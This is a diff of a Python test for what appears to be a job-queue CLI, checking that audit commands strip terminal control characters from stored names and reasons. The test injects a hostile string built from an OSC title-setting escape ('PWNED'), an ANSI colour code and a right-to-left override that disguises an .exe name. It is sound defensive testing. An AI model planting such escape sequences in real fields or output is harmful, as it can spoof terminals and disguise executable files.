 def test_the_words_never_carry_hostile_text_to_the_terminal(cli):
     invoke, conn = cli
     hostile = "\x1b]2;PWNED\x07\x1b[31m\u202egnp.exe"
-    e = enqueue(conn, "search")
-    claim(conn, f"w{hostile}", ["search"])
-    cancel(conn, e["id"], "running", 1, operator=f"op{hostile}", reason=f"why{hostile}")
+    e = h.enqueue(conn, "search")
+    h.claim(conn, f"w{hostile}", ["search"])
+    h.cancel(conn, e["id"], "running", 1, operator=f"op{hostile}", reason=f"why{hostile}")
     for args in (("audit", "owner", str(e["id"]), "--at", "0.001s"), ("audit", "actions"), ("audit", "verify")):
         result = invoke(*args)
         assert result.exit_code == 0 and "\x1b" not in result.output and "\u202e" not in result.output, args
